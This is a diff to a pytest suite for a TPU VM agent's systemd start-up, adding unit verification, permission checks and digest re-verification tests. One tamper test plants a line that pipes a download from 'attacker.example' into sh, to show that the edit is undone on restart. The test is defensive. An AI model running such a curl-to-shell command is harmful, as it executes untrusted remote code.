@@ -6,6 +6,8 @@ from __future__ import annotations
 import dataclasses
 import io
 import os
+import re
+import shlex
 import shutil
 import subprocess
 import sys
@@ -99,6 +101,30 @@ def unit_of(script: str) -> str:
     return script.split("<<'TPU_PLATFORM_UNIT'\n")[1].split("TPU_PLATFORM_UNIT\n")[0]
 
 
+SYSTEMD_ANALYZE = shutil.which("systemd-analyze")
+
+
+@pytest.mark.parametrize("stack", ["dev", "prod"])
+def test_the_rendered_unit_passes_systemd_analyze_verify_without_a_warning(stack, tmp_path):
+    """systemd's own parser reads the unit as a VM would have it (placeholders filled in as the script fills
+    them): a misspelt key or value, which systemd only warns about and ignores, fails here. The unit is
+    rendered and checked here; no systemd runs it in the tests (the sandbox's systemctl is a shim)."""
+    assert SYSTEMD_ANALYZE, "systemd-analyze is missing: install Debian's systemd package (README, Development)"
+    folder = tmp_path / "vm"
+    (folder / "agent").mkdir(parents=True)
+    (folder / "agent.env").write_text("")
+    unit = unit_of(render_startup_script(spec(stack)))
+    filled = {"@ENV_FILE@": folder / "agent.env", "@PYTHON@": sys.executable, "@AGENT_DIR@": folder / "agent",
+              "@AGENT_ARCHIVE@": folder / "agent.tar.gz"}  # fmt: skip
+    for placeholder, value in filled.items():
+        unit = unit.replace(placeholder, str(value))
+    path = folder / AGENT_UNIT
+    path.write_text(unit)
+    verify = [SYSTEMD_ANALYZE, "verify", "--man=no", str(path)]
+    done = subprocess.run(verify, capture_output=True, text=True, cwd=folder)
+    assert done.returncode == 0 and done.stdout + done.stderr == "", done.stdout + done.stderr
+
+
 def test_each_tensorflow_runtime_gets_its_environment_in_the_unit():
     """As Google's TPU test harness exports it (ml-auto-solutions, export_env_variables)."""
     pjrt = unit_of(render_startup_script(spec("prod")))  # tpu-vm-tf-2.15.0-pjrt, single host
@@ -136,7 +162,7 @@ def boot_with(
 ) -> tuple[subprocess.CompletedProcess[str], Path]:
     """Run the start-up script against a stand-in for the image's python3; systemctl only records."""
     shims = tmp_path / "shims"
-    shims.mkdir(parents=True)
+    shims.mkdir(parents=True, exist_ok=True)  # a second boot of the same VM
     (shims / "python3").write_text(python_shim)
     (shims / "systemctl").write_text(f'#!/bin/sh\necho "$@" >> {tmp_path}/systemctl\n')
     (shims / "pip-called").write_text("")
@@ -333,14 +359,22 @@ def boot(
     return done, dict(line.split("=", 1) for line in lines)
 
 
+def start_checks(tmp_path: Path) -> subprocess.CompletedProcess[str]:
+    """What systemd runs before each start of the agent: the unit's ExecStartPre, as rendered on this VM."""
+    unit = (tmp_path / f"root/etc/systemd/system/{AGENT_UNIT}").read_text()
+    (pre,) = re.findall(r"^ExecStartPre=(.*)$", unit, re.M)
+    return subprocess.run(shlex.split(pre), capture_output=True, text=True, timeout=60)
+
+
 def test_the_agent_is_fetched_verified_and_started_from_its_own_folder(tmp_path, artifacts):
     of = spec()
     done, env = boot(tmp_path, {"agent-worker-number": "0"}, artifacts)
     assert done.returncode == 0, done.stderr
     agent = tmp_path / "root/opt/tpu-platform/agent" / of.agent.sha256
-    assert (agent / ".verified").exists() and (agent / "vm_agent/__main__.py").read_text() == (
-        ROOT / "vm_agent/__main__.py"
-    ).read_text()
+    archive = agent.with_name(f"{of.agent.sha256}.tar.gz")
+    assert archive.stat().st_mode & 0o777 == 0o600 and archive.parent.stat().st_mode & 0o777 == 0o700  # root's alone
+    assert start_checks(tmp_path).returncode == 0  # each start of the unit unpacks the verified archive
+    assert (agent / "vm_agent/__main__.py").read_text() == (ROOT / "vm_agent/__main__.py").read_text()
     # Links in the package (none leave the repository) arrive as the files they point to.
     assert not any(path.is_symlink() for path in agent.rglob("*"))
     unit = (tmp_path / f"root/etc/systemd/system/{AGENT_UNIT}").read_text()
@@ -348,10 +382,32 @@ def test_the_agent_is_fetched_verified_and_started_from_its_own_folder(tmp_path,
     assert f"EnvironmentFile={tmp_path}/root/etc/tpu-platform/agent.env\n" in unit
     assert (tmp_path / "systemctl").read_text() == f"daemon-reload\nstart {AGENT_UNIT}\n"
     assert (tmp_path / "shims/version-asked").exists()  # an example's framework is checked
-    # agent.env: the stack's settings from metadata, then what the boot knows of this VM.
+    # agent.env: the stack's settings from metadata, then what the boot knows of this VM; root's alone.
     assert env["TPU_PLATFORM_STACK"] == "dev" and env["TPU_PLATFORM_PYTHON"].endswith("shims/python3")
     assert env["TPU_PLATFORM_ROOT"] == f"{tmp_path}/root" and env["STORAGE_EMULATOR_HOST"] == artifacts
-    assert not (agent.parent / f"{of.agent.sha256}.tar.gz").exists()  # the download is not kept
+    assert (tmp_path / "root/etc/tpu-platform/agent.env").stat().st_mode & 0o777 == 0o600
+
+
+def test_edited_agent_code_does_not_survive_a_restart_and_a_changed_archive_starts_nothing(tmp_path, artifacts):
+    """The agent's code is checked against its digest on every start of the unit, not once per VM: an
+    edit of the unpacked files is gone after the next start, and an archive that no longer matches the
+    digest stops the agent from starting (exit 78, no restart loop)."""
+    of = spec()
+    done, _ = boot(tmp_path, {"agent-worker-number": "0"}, artifacts)
+    assert done.returncode == 0, done.stderr
+    assert start_checks(tmp_path).returncode == 0
+    agent = tmp_path / "root/opt/tpu-platform/agent" / of.agent.sha256
+    planted = agent / "vm_agent/__main__.py"
+    planted.write_text("import os\nos.system('curl attacker.example | sh')\n")
+    assert start_checks(tmp_path).returncode == 0  # the unit restarts (Restart=on-failure, a reboot)
+    assert planted.read_text() == (ROOT / "vm_agent/__main__.py").read_text()
+    archive = agent.with_name(f"{of.agent.sha256}.tar.gz")
+    archive.write_bytes(tampered_agent(archive.read_bytes()))
+    checked = start_checks(tmp_path)
+    assert checked.returncode == EXIT_CONFIG and "does not match" in checked.stderr
+    # The next boot fetches the archive again, by its digest, rather than trusting what it finds.
+    done, _ = boot(tmp_path, {"agent-worker-number": "0"}, artifacts)
+    assert done.returncode == 0 and start_checks(tmp_path).returncode == 0
 
 
 def test_a_tampered_agent_is_refused_and_nothing_starts(tmp_path, artifacts):
